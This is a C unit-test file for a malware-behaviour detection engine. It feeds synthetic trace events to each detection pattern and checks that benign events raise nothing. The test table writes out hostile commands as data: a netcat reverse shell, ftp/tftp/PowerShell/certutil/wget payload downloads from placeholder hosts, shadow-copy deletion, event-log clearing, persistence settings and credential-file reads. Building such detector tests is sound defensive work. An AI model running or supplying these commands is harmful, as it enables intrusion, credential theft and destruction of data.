/* Every shipped pattern against an event that it must see, and honest events that none may. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "remedy/knowledge.h"
#include "support.h"

/* "#N#" in an event stands for its number among the repetitions. */
static const struct {
	const char *behaviour;
	unsigned times;
	const char *event;
} seen[] = {
	{ "control_channel", 1,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 6667, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": \"JOIN #rx\"}" },
	{ "control_channel", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 6667, \"proto\": "
	  "\"tcp\", \"protocol\": \"irc\", \"detail\": \"#rx\"}" },
	{ "control_channel", 1,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 6667, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": \"NICK bot\"}" },
	{ "control_channel", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 443, \"proto\": "
	  "\"tcp\", \"protocol\": \"control\", \"detail\": \"by-name cc.example.net\"}" },
	{ "control_channel", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 443, \"proto\": "
	  "\"tcp\", \"protocol\": \"control\", \"detail\": \"MALWARE something\"}" },
	{ "control_channel", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"nc.exe -e cmd.exe "
	  "203.0.113.9 4444\"}" },
	{ "control_channel", 3,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": \"POST /gate.php HTTP/1.1\"}" },
	{ "web_service", 1,
	  "{\"event\": \"net.resolve\", \"name\": \"api.telegram.org\", \"address\": "
	  "\"203.0.113.1\"}" },
	{ "dynamic_name", 1,
	  "{\"event\": \"net.resolve\", \"name\": \"evil.duckdns.org\", \"address\": "
	  "\"203.0.113.1\"}" },
	{ "generated_names", 20,
	  "{\"event\": \"net.resolve\", \"name\": \"q#N#x.example\", \"address\": \"\"}" },
	{ "name_lookup", 1,
	  "{\"event\": \"net.resolve\", \"name\": \"www.example.com\", \"address\": \"\"}" },
	{ "backdoor", 1,
	  "{\"event\": \"net.listen\", \"address\": \"0.0.0.0\", \"port\": 1957, \"proto\": "
	  "\"tcp\"}" },
	{ "infection_vector", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 445, \"proto\": "
	  "\"tcp\", \"protocol\": \"dcerpc\", \"detail\": \"MS04-011\"}" },
	{ "infection_vector", 1,
	  "{\"event\": \"shellcode\", \"kind\": \"a\", \"os\": \"windows\", \"port\": 445, "
	  "\"detail\": \"\"}" },
	{ "client_attack", 1,
	  "{\"event\": \"session.answer\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": "
	  "\"tcp\", \"protocol\": \"http\", \"name\": \"www.example.org\"}" },
	{ "client_attack", 1,
	  "{\"event\": \"session.answer\", \"address\": \"203.0.113.9\", \"port\": 5900, "
	  "\"proto\": \"tcp\", \"protocol\": \"unknown\", \"name\": \"\"}" },
	{ "shell", 1, "{\"event\": \"shell.command\", \"command\": \"dir\"}" },
	{ "program", 1,
	  "{\"event\": \"self\", \"path\": \"a.exe\", \"sha256\": "
	  "\"abababababababababababababababababababababababababababababababab\"}" },
	{ "persistence", 1,
	  "{\"event\": \"registry.set\", \"key\": "
	  "\"HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\", "
	  "\"value\": \"x\", \"data\": \"x.exe\"}" },
	{ "persistence", 1,
	  "{\"event\": \"file.create\", \"path\": \"C:\\\\Documents and Settings\\\\a\\\\Start "
	  "Menu\\\\Programs\\\\Startup\\\\x.exe\"}" },
	{ "persistence", 1,
	  "{\"event\": \"file.copy\", \"source\": \"x.exe\", \"path\": "
	  "\"C:\\\\Users\\\\a\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start "
	  "Menu\\\\Programs\\\\Startup\\\\x.exe\"}" },
	{ "persistence", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"schtasks.exe /create "
	  "/tn x /tr c:\\\\x.exe /sc onlogon\"}" },
	{ "persistence", 1,
	  "{\"event\": \"file.create\", \"path\": \"C:\\\\Windows\\\\Tasks\\\\At1.job\"}" },
	{ "persistence", 1, "{\"event\": \"file.create\", \"path\": \"/etc/cron.d/x\"}" },
	{ "persistence", 1,
	  "{\"event\": \"registry.set\", \"key\": "
	  "\"HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Image "
	  "File Execution Options\\\\sethc.exe\", \"value\": \"Debugger\", \"data\": \"x.exe\"}" },
	{ "service", 1,
	  "{\"event\": \"service.create\", \"name\": \"x\", \"path\": \"C:\\\\x.exe\"}" },
	{ "mutex", 1, "{\"event\": \"mutex.create\", \"name\": \"x\"}" },
	{ "file_dropped", 1, "{\"event\": \"file.create\", \"path\": \"C:\\\\x.exe\"}" },
	{ "file_dropped", 1,
	  "{\"event\": \"file.copy\", \"source\": \"a\", \"path\": \"C:\\\\x.exe\"}" },
	{ "share_spread", 1,
	  "{\"event\": \"file.copy\", \"source\": \"a\", \"path\": "
	  "\"\\\\\\\\192.0.2.5\\\\ADMIN$\\\\x.exe\"}" },
	{ "share_spread", 1,
	  "{\"event\": \"file.create\", \"path\": \"\\\\\\\\192.0.2.5\\\\C$\\\\x.exe\"}" },
	{ "media_spread", 1, "{\"event\": \"file.create\", \"path\": \"E:\\\\autorun.inf\"}" },
	{ "media_spread", 1,
	  "{\"event\": \"file.copy\", \"source\": \"a\", \"path\": \"E:\\\\autorun.inf\"}" },
	{ "file_sharing_spread", 1,
	  "{\"event\": \"file.copy\", \"source\": \"a\", \"path\": \"C:\\\\Program "
	  "Files\\\\eMule\\\\Incoming\\\\song.exe\"}" },
	{ "remote_execution", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"psexec.exe "
	  "\\\\\\\\192.0.2.5 -s c:\\\\x.exe\"}" },
	{ "process_injection", 1,
	  "{\"event\": \"process.write\", \"target\": \"explorer.exe\", \"address\": 4096, "
	  "\"length\": 8}" },
	{ "account", 1,
	  "{\"event\": \"user.create\", \"name\": \"x\", \"group\": \"Administrators\"}" },
	{ "account", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"net.exe user x y "
	  "/add\"}" },
	{ "security_tampering", 1,
	  "{\"event\": \"registry.set\", \"key\": "
	  "\"HKEY_LOCAL_MACHINE\\\\SYSTEM\\\\CurrentControlSet\\\\Services\\\\wscsvc\", \"value\": "
	  "\"Start\", \"data\": \"x.exe\"}" },
	{ "security_tampering", 1,
	  "{\"event\": \"process.terminate\", \"target\": \"antivirus.exe\"}" },
	{ "security_tampering", 1, "{\"event\": \"service.stop\", \"name\": \"wuauserv\"}" },
	{ "security_tampering", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"netsh.exe firewall set "
	  "opmode disable\"}" },
	{ "security_tampering", 1,
	  "{\"event\": \"file.write\", \"path\": "
	  "\"C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts\", \"offset\": 0, \"length\": 9, "
	  "\"data\": \"127.0.0.1\"}" },
	{ "evasion", 1, "{\"event\": \"anti.debug\", \"how\": \"IsDebuggerPresent\"}" },
	{ "evasion", 1, "{\"event\": \"anti.emulation\", \"how\": \"red pill\"}" },
	{ "key_logging", 1, "{\"event\": \"hook.set\", \"how\": \"keyboard\"}" },
	{ "shutdown", 1, "{\"event\": \"system.shutdown\", \"how\": \"reboot\"}" },
	{ "mail_spread", 3,
	  "{\"event\": \"mail.send\", \"server\": \"192.0.2.25\", \"from\": \"a\", \"to\": "
	  "\"b#N#\"}" },
	{ "mail_spread", 3,
	  "{\"event\": \"net.connect\", \"address\": \"192.0.2.25\", \"port\": 25, \"proto\": "
	  "\"tcp\", \"result\": \"connected\"}" },
	{ "mail_attachment", 1,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 25, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": \"Content-Type: x; filename=\\\"doc.pif\\\"\"}" },
	{ "flood", 500,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": "
	  "\"udp\", \"length\": 9, \"data\": \"x\"}" },
	{ "flood", 500,
	  "{\"event\": \"net.connect\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": "
	  "\"tcp\", \"result\": \"connected\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"echo open 198.51.100.9 8884 > o&echo get "
	  "b.exe >> o &ftp -n -s:o\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"echo open ftp.example.org > o&echo get "
	  "b.exe >> o &ftp -n -s:o\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"echo open 0.0.0.0 8884 > o&echo get b.exe "
	  ">> o &ftp -n -s:o\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"tftp -i 198.51.100.9 get b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"tftp.exe -i "
	  "198.51.100.9 get b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"cmd /c echo open "
	  "198.51.100.9 21>o & ftp -s:o\"}" },
	{ "download", 1,
	  "{\"event\": \"net.download\", \"url\": \"ftp://198.51.100.9/b.exe\", \"path\": "
	  "\"b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"net.download\", \"url\": \"tftp://198.51.100.9/b.exe\", \"path\": "
	  "\"b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"net.download\", \"url\": \"raw://198.51.100.9:99/\", \"path\": \"\"}" },
	{ "download", 1,
	  "{\"event\": \"net.download\", \"url\": \"http://198.51.100.9:8080/b.exe\", \"path\": "
	  "\"\"}" },
	{ "download", 1,
	  "{\"event\": \"net.download\", \"url\": \"http://files.example.org/b.exe\", \"path\": "
	  "\"\"}" },
	{ "download", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 21, \"proto\": "
	  "\"tcp\", \"protocol\": \"ftp\", \"detail\": \"RETR b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"session\", \"address\": \"203.0.113.9\", \"port\": 9999, \"proto\": "
	  "\"tcp\", \"protocol\": \"pe-transfer\", \"detail\": \"\"}" },
	{ "download", 1,
	  "{\"event\": \"net.receive\", \"address\": \"203.0.113.9\", \"port\": 99, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": \"MZ\\\\x90\"}" },
	{ "download", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"powershell -c "
	  "(New-Object Net.WebClient).DownloadFile('http://198.51.100.9/b.exe','b')\"}" },
	{ "download", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"certutil -urlcache -f "
	  "http://files.example.org/b.exe b.exe\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"cd /tmp; wget "
	  "http://198.51.100.9/bins.sh\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"curl -O "
	  "http://files.example.org/bins.sh\"}" },
	{ "recovery_inhibition", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"vssadmin.exe delete "
	  "shadows /all /quiet\"}" },
	{ "encryption", 5,
	  "{\"event\": \"file.move\", \"source\": \"C:\\\\a#N#.doc\", \"path\": "
	  "\"C:\\\\a#N#.doc.locked\"}" },
	{ "ransom_note", 3,
	  "{\"event\": \"file.create\", \"path\": \"C:\\\\d#N#\\\\how_to_decrypt.txt\"}" },
	{ "disk_wipe", 1,
	  "{\"event\": \"file.write\", \"path\": \"\\\\\\\\.\\\\PhysicalDrive0\", \"offset\": 0, "
	  "\"length\": 512, \"data\": \"\"}" },
	{ "defacement", 1,
	  "{\"event\": \"file.write\", \"path\": \"C:\\\\inetpub\\\\wwwroot\\\\index.htm\", "
	  "\"offset\": 0, \"length\": 9, \"data\": \"x\"}" },
	{ "credential_theft", 1,
	  "{\"event\": \"file.open\", \"path\": "
	  "\"C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User "
	  "Data\\\\Default\\\\Login Data\", \"access\": \"read\"}" },
	{ "credential_theft", 1,
	  "{\"event\": \"registry.get\", \"key\": \"HKEY_CURRENT_USER\\\\Software\\\\Martin "
	  "Prikryl\\\\WinSCP 2\\\\Sessions\\\\x\", \"value\": \"Password\"}" },
	{ "mining", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"xmrig -o "
	  "stratum+tcp://pool.example.org:3333 -u x\"}" },
	{ "mining", 1,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 3333, \"proto\": "
	  "\"tcp\", \"length\": 9, \"data\": "
	  "\"{\\\"id\\\":1,\\\"method\\\":\\\"mining.subscribe\\\"}\"}" },
	{ "indicator_removal", 1,
	  "{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"wevtutil cl "
	  "Security\"}" },
	{ "password_guessing", 20,
	  "{\"event\": \"net.connect\", \"address\": \"198.51.100.9\", \"port\": 23, \"proto\": "
	  "\"tcp\", \"result\": \"connected\"}" },
	{ "media_spread", 1,
	  "{\"event\": \"file.create\", \"path\": \"E:\\\\RECYCLER\\\\S-5-3-42\\\\x.vmx\"}" },
	{ "media_spread", 1,
	  "{\"event\": \"file.copy\", \"source\": \"a\", \"path\": "
	  "\"E:\\\\$RECYCLE.BIN\\\\x.exe\"}" },
	{ "anonymity_network", 1,
	  "{\"event\": \"net.resolve\", \"name\": \"abcdefgh.onion.example\", \"address\": \"\"}" },
	{ "peer_network", 5,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.#N#\", \"port\": 6881, \"proto\": "
	  "\"udp\", \"length\": 90, \"data\": "
	  "\"d1:ad2:id20:88888888aaaaaaaaaaaa9:info_hash20:\"}" },
	{ "relay", 1,
	  "{\"event\": \"net.receive\", \"address\": \"203.0.113.9\", \"port\": 40001, \"proto\": "
	  "\"tcp\", \"length\": 3, \"data\": \"\\\\x05\\\\x01\\\\x00\"}" },
	{ "flood", 500,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": "
	  "\"tcp\", \"length\": 20, \"data\": \"GET /?#N# HTTP/1.1\"}" },
	{ "reflection_flood", 50,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.#N#\", \"port\": 1900, \"proto\": "
	  "\"udp\", \"length\": 90, \"data\": \"M-SEARCH * HTTP/1.1\"}" },
	{ "reflection_flood", 50,
	  "{\"event\": \"net.send\", \"address\": \"203.0.113.#N#\", \"port\": 123, \"proto\": "
	  "\"udp\", \"length\": 8, \"data\": "
	  "\"\\\\x17\\\\x00\\\\x03*\\\\x00\\\\x00\\\\x00\\\\x00\"}" },
	{ "persistence", 1,
	  "{\"event\": \"file.write\", \"path\": \"/root/.ssh/authorized_keys\", \"offset\": 0, "
	  "\"length\": 90, \"data\": \"ssh-rsa AAAA\"}" },
	{ "security_tampering", 1,
	  "{\"event\": \"file.open\", \"path\": \"/dev/watchdog\", \"access\": \"read write\"}" },
	{ "download", 1,
	  "{\"event\": \"shell.command\", \"command\": \"echo -ne "
	  "\\\"\\\\x7f\\\\x45\\\\x4c\\\\x46\\\\x01\\\" > .s\"}" },
	{ "indicator_removal", 1, "{\"event\": \"file.delete\", \"path\": \"/var/log/auth.log\"}" },
};

static const char *const honest[] = {
	/* who asked is attacked, and no service */
	"{\"event\": \"shellcode\", \"kind\": \"a\", \"os\": \"windows\", \"port\": 80, "
	"\"detail\": \"x86\", \"side\": \"server\"}",
	"{\"event\": \"file.create\", \"path\": \"C:\\\\Program Files\\\\Editor\\\\readme.txt\"}",
	"{\"event\": \"file.create\", \"path\": \"C:\\\\Windows\\\\Temp\\\\setup.tmp\"}",
	"{\"event\": \"file.open\", \"path\": \"C:\\\\Users\\\\a\\\\letter.doc\", \"access\": "
	"\"read\"}",
	"{\"event\": \"file.move\", \"source\": \"C:\\\\a.tmp\", \"path\": \"C:\\\\a.doc\"}",
	"{\"event\": \"file.write\", \"path\": \"C:\\\\Users\\\\a\\\\hosts.txt\", \"offset\": 0, "
	"\"length\": 1, \"data\": \"x\"}",
	"{\"event\": \"registry.set\", \"key\": "
	"\"HKEY_CURRENT_USER\\\\Software\\\\Editor\\\\Settings\", \"value\": \"Run\", \"data\": "
	"\"x.exe\"}",
	"{\"event\": \"registry.set\", \"key\": "
	"\"HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Fonts\", "
	"\"value\": \"Arial\", \"data\": \"x.exe\"}",
	"{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"notepad.exe letter.txt\"}",
	"{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"net.exe use\"}",
	"{\"event\": \"process.create\", \"path\": \"x\", \"command\": \"curl --version\"}",
	"{\"event\": \"registry.get\", \"key\": \"HKEY_CURRENT_USER\\\\Software\\\\Editor\", "
	"\"value\": \"x\"}",
	"{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": \"tcp\", "
	"\"length\": 9, \"data\": \"POST /form HTTP/1.1\"}",
	"{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 80, \"proto\": \"tcp\", "
	"\"length\": 9, \"data\": \"GET / HTTP/1.1\"}",
	"{\"event\": \"net.listen\", \"address\": \"127.0.0.1\", \"port\": 5000, \"proto\": "
	"\"tcp\"}",
	"{\"event\": \"file.delete\", \"path\": \"C:\\\\Users\\\\a\\\\letter.bak\"}",
	"{\"event\": \"hook.set\", \"how\": \"mouse\"}",
	"{\"event\": \"net.connect\", \"address\": \"198.51.100.9\", \"port\": 22, \"proto\": "
	"\"tcp\", \"result\": \"connected\"}",
	"{\"event\": \"file.move\", \"source\": \"E:\\\\x.exe\", \"path\": "
	"\"E:\\\\$RECYCLE.BIN\\\\$RABCDEF.exe\"}",
	"{\"event\": \"file.create\", \"path\": \"E:\\\\$RECYCLE.BIN\\\\desktop.ini\"}",
	"{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 6881, \"proto\": "
	"\"udp\", \"length\": 90, \"data\": \"d1:ad2:id20:aaaaaaaaaaaaaaaaaaaa\"}",
	"{\"event\": \"net.receive\", \"address\": \"203.0.113.9\", \"port\": 40001, \"proto\": "
	"\"tcp\", \"length\": 9, \"data\": \"\\\\x05\\\\x00\"}",
	"{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 1900, \"proto\": "
	"\"udp\", \"length\": 90, \"data\": \"M-SEARCH * HTTP/1.1\"}",
	"{\"event\": \"net.send\", \"address\": \"203.0.113.9\", \"port\": 123, \"proto\": "
	"\"udp\", \"length\": 48, \"data\": \"\\\\x1b\\\\x00\\\\x00\"}",
	"{\"event\": \"file.write\", \"path\": \"/root/.ssh/known_hosts\", \"offset\": 0, "
	"\"length\": 90, \"data\": \"host ssh-rsa AAAA\"}",
	"{\"event\": \"file.open\", \"path\": \"/dev/urandom\", \"access\": \"read\"}",
};

static void tell_numbered(struct trace_log *log, const char *event, unsigned number)
{
	char text[2048] = "";
	size_t used = 0;

	for (const char *c = event; *c && used < sizeof text - 16; c++) {
		if (strncmp(c, "#N#", 3) == 0) {
			used += (size_t)snprintf(text + used, sizeof text - used, "%u", number);
			c += 2;
		} else {
			text[used++] = *c;
			text[used] = 0;
		}
	}
	tell(log, text);
}

static bool came_from(const json_t *behaviour, const struct behaviour_pattern *pattern)
{
	const char *name = json_string_value(json_object_get(behaviour, "name"));
	const char *title = json_string_value(json_object_get(behaviour, "title"));
	return strcmp(name, pattern->name) == 0 && strcmp(title, pattern->title) == 0;
}

/* Marks the patterns of that kind of event that made a behaviour. */
static void mark(const struct remedy_knowledge *knowledge, const json_t *behaviours,
		 const char *event, bool *fired)
{
	json_t *object = json_loads(event, 0, NULL);
	int kind = trace_kind_find(json_string_value(json_object_get(object, "event")));

	json_decref(object);
	for (size_t p = 0; p < knowledge->pattern_count; p++)
		for (size_t i = 0; i < json_array_size(behaviours); i++)
			if ((int)knowledge->patterns[p]->kind == kind &&
			    came_from(json_array_get(behaviours, i), knowledge->patterns[p]))
				fired[p] = true;
}

/* What comes often is found behind any number of things that do not, and those are no behaviour,
 * however many they are. */
static void thresholds_hold_for_each_host(void **state)
{
	struct remedy_knowledge *knowledge = shipped_knowledge();
	struct trace_log *log = trace_log_new(16u << 20);
	(void)state;

	for (unsigned n = 0; n < 2000; n++)
		tell_connect(log, 0xcb007100u + n % 256 + (n / 256 << 16), 80, "tcp", n);
	json_t *behaviours = behaviours_of(knowledge, log);
	assert_null(parameters_of(behaviours, "flood"));
	json_decref(behaviours);

	/* One try each at many hosts is a scan, and no guessing of passwords. */
	for (unsigned n = 0; n < 200; n++)
		tell_connect(log, 0xcb007200u + n, 22, "tcp", 2000 + n);
	behaviours = behaviours_of(knowledge, log);
	assert_null(parameters_of(behaviours, "password_guessing"));
	json_decref(behaviours);

	for (unsigned n = 0; n < 600; n++)
		tell_connect(log, 0xc0000219u, 80, "tcp", 2000 + n);
	behaviours = behaviours_of(knowledge, log);
	const json_t *flood = parameters_of(behaviours, "flood");
	assert_non_null(flood);
	assert_string_equal(json_string_value(json_object_get(flood, "address")), "192.0.2.25");
	assert_int_equal(json_integer_value(json_object_get(flood, "connections")), 600);
	json_decref(behaviours);
	trace_log_free(log);
	remedy_knowledge_free(knowledge);
}

static void what_has_no_room_is_counted(void **state)
{
	struct remedy_knowledge *knowledge = shipped_knowledge();
	struct trace_log *log = trace_log_new(16u << 20);
	uint64_t not_shown = 0;
	size_t shown = 0;
	(void)state;

	for (unsigned n = 0; n < 100; n++)
		tell_numbered(log,
			      "{\"event\": \"net.download\", \"url\": "
			      "\"http://198.51.100.9/b#N#.exe\", \"path\": \"\"}",
			      n);
	json_t *behaviours = behaviours_of(knowledge, log);
	for (size_t i = 0; i < json_array_size(behaviours); i++) {
		const json_t *each = json_array_get(behaviours, i);
		if (strcmp(json_string_value(json_object_get(each, "name")), "download") != 0)
			continue;
		const json_t *rest =
			json_object_get(json_object_get(each, "parameters"), "not_shown");
		if (rest)
			not_shown += (uint64_t)json_integer_value(rest);
		else
			shown++;
	}
	assert_int_equal(shown, 64);
	assert_int_equal(not_shown, 36);
	json_decref(behaviours);
	trace_log_free(log);
	remedy_knowledge_free(knowledge);
}

static void every_pattern_sees_its_event(void **state)
{
	struct remedy_knowledge *knowledge = shipped_knowledge();
	bool fired[512] = { false };
	(void)state;
	assert_true(knowledge->pattern_count <= 512);
	for (size_t i = 0; i < sizeof seen / sizeof *seen; i++) {
		struct trace_log *log = trace_log_new(4u << 20);
		for (unsigned n = 0; n < seen[i].times; n++)
			tell_numbered(log, seen[i].event, n);
		json_t *behaviours = behaviours_of(knowledge, log);
		if (!parameters_of(behaviours, seen[i].behaviour))
			fail_msg("no %s in %s", seen[i].behaviour, seen[i].event);
		mark(knowledge, behaviours, seen[i].event, fired);
		json_decref(behaviours);
		trace_log_free(log);
		if (seen[i].times < 2)
			continue;
		/* One fewer is too few. */
		log = trace_log_new(4u << 20);
		for (unsigned n = 0; n + 1 < seen[i].times; n++)
			tell_numbered(log, seen[i].event, n);
		behaviours = behaviours_of(knowledge, log);
		if (parameters_of(behaviours, seen[i].behaviour))
			fail_msg("%s although too few of %s", seen[i].behaviour, seen[i].event);
		json_decref(behaviours);
		trace_log_free(log);
	}
	for (size_t p = 0; p < knowledge->pattern_count; p++)
		if (!fired[p])
			fail_msg("no event here makes %s (%s)", knowledge->patterns[p]->name,
				 knowledge->patterns[p]->title);
	remedy_knowledge_free(knowledge);
}

static void honest_events_are_no_behaviour(void **state)
{
	struct remedy_knowledge *knowledge = shipped_knowledge();
	(void)state;
	for (size_t i = 0; i < sizeof honest / sizeof *honest; i++) {
		struct trace_log *log = trace_log_new(1u << 20);
		tell(log, honest[i]);
		json_t *behaviours = behaviours_of(knowledge, log);
		if (json_array_size(behaviours))
			fail_msg("%s became %s", honest[i],
				 json_string_value(
					 json_object_get(json_array_get(behaviours, 0), "name")));
		json_decref(behaviours);
		trace_log_free(log);
	}
	remedy_knowledge_free(knowledge);
}

/* Words that stand for what is done name the technique; those that stand for facts need not. */
static void patterns_name_their_techniques(void **state)
{
	static const char *const facts[] = { "name_lookup", "program", "file_dropped" };
	struct remedy_knowledge *knowledge = shipped_knowledge();
	(void)state;
	for (size_t p = 0; p < knowledge->pattern_count; p++) {
		const struct behaviour_pattern *pattern = knowledge->patterns[p];
		bool fact = false;
		for (size_t i = 0; i < sizeof facts / sizeof *facts; i++)
			fact |= strcmp(pattern->name, facts[i]) == 0;
		if (!fact && pattern->attack_count == 0)
			fail_msg("%s (%s) names no technique", pattern->name, pattern->title);
	}
	remedy_knowledge_free(knowledge);
}

/* All of it at once: every shipped countermeasure answers something that patterns see. */
static void every_countermeasure_is_asked_for(void **state)
{
	struct remedy_knowledge *knowledge = shipped_knowledge();
	struct trace_log *log = trace_log_new(16u << 20);
	struct remedy_candidates candidates;
	struct error error;
	(void)state;
	for (size_t i = 0; i < sizeof seen / sizeof *seen; i++)
		for (unsigned n = 0; n < seen[i].times; n++)
			tell_numbered(log, seen[i].event, n);
	for (uint32_t i = 0; i < 40; i++)
		tell_connect(log, i * 0x05a7c3d1u, 445, "tcp", 1000 + 100 * i);
	json_t *behaviours = behaviours_of(knowledge, log);
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	assert_int_equal(candidates.dropped, 0);
	for (size_t i = 0; i < knowledge->entry_count; i++)
		if (!candidate_of(&candidates, knowledge->entries[i]->name))
			fail_msg("nothing asks for %s", knowledge->entries[i]->name);
	const struct remedy_candidate *cleaned = candidate_of(&candidates, "reinstall");
	assert_int_equal(cleaned->effect, REMEDY_CLEAN);
	assert_int_equal((int)cleaned->reaction_seconds, 14400);
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
	remedy_knowledge_free(knowledge);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_pattern_sees_its_event),
		cmocka_unit_test(thresholds_hold_for_each_host),
		cmocka_unit_test(what_has_no_room_is_counted),
		cmocka_unit_test(honest_events_are_no_behaviour),
		cmocka_unit_test(patterns_name_their_techniques),
		cmocka_unit_test(every_countermeasure_is_asked_for),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
